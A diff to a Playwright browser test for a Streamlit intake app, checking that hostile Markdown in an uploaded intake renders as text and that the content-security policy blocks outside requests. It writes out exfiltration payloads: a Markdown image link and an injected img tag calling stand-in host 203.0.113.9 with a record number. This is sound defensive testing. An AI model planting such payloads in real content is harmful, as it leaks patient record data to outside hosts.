@@ -3,8 +3,10 @@ an intake whose free text holds an image link carrying a record number, and no r
 leaves 127.0.0.1.
 
 Every request the page makes to any other host is caught at the network (Playwright
-routing) and recorded; the test also checks the hostile text is on the page as text, and
-that the app sends its content-security policy with the page.
+routing) and recorded; the test also checks the hostile text is on the page as text, that
+the app sends its content-security policy with the page, and that the policy stops an
+image put into the page directly (as a rendering slip would). Without the policy the app
+itself fetches its page icon from fonts.gstatic.com, which this test also refuses.
 """
 
 from __future__ import annotations
@@ -23,12 +25,12 @@ from tests.test_browser import (
     ARTIFACTS,
     CHROMIUM,
     CHROMIUM_ARGS,
+    PASSWORD,
     idle,
     nav,
     no_traceback,
     playwright_api,
     server,  # noqa: F401 - the fixture that starts `streamlit run app.py`
-    sign_in,
     sign_out,
 )
 
@@ -86,6 +88,15 @@ def watched(server: str) -> Any:  # noqa: F811
             browser.close()
 
 
+def sign_in(page: Any, user: str) -> None:
+    """Sign in and wait for the signed-in app, whichever page it opens on."""
+    page.get_by_label("User name", exact=True).fill(user)
+    page.get_by_label("Password", exact=True).fill(PASSWORD)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("button", name="Sign out").first).to_be_visible()
+    idle(page)
+
+
 def _shown_as_text(page: Any) -> None:
     """The hostile Markdown is on the page as the characters typed."""
     expect(page.get_by_text(re.compile(r"!\[\]\(http://203\.0\.113\.9")).first).to_be_attached()
@@ -102,6 +113,7 @@ def test_markdown_in_an_intake_fetches_nothing_from_elsewhere(
     assert "img-src 'self'" in policy, "the page is served without its content-security policy"
 
     sign_in(page, "ana")
+    nav(page, "Intake")
     page.get_by_text("Upload an intake file").click()
     idle(page)
     page.locator("input[type='file']").first.set_input_files(str(_hostile_intake(tmp_path)))
@@ -137,3 +149,12 @@ def test_markdown_in_an_intake_fetches_nothing_from_elsewhere(
 
     assert sent == [], f"requests left this machine: {sent}"
     assert not [u for u in attempted if "203.0.113.9" in u], "the page tried to load the image"
+
+    # the second line: were some text ever to render as an image, the page's policy stops it
+    page.evaluate(
+        """() => { const i = document.createElement('img');
+                   i.src = 'http://203.0.113.9/csp.png?mrn=MRN-20417';
+                   document.body.appendChild(i); }"""
+    )
+    page.wait_for_timeout(1500)
+    assert sent == [], f"the content-security policy let a request out: {sent}"
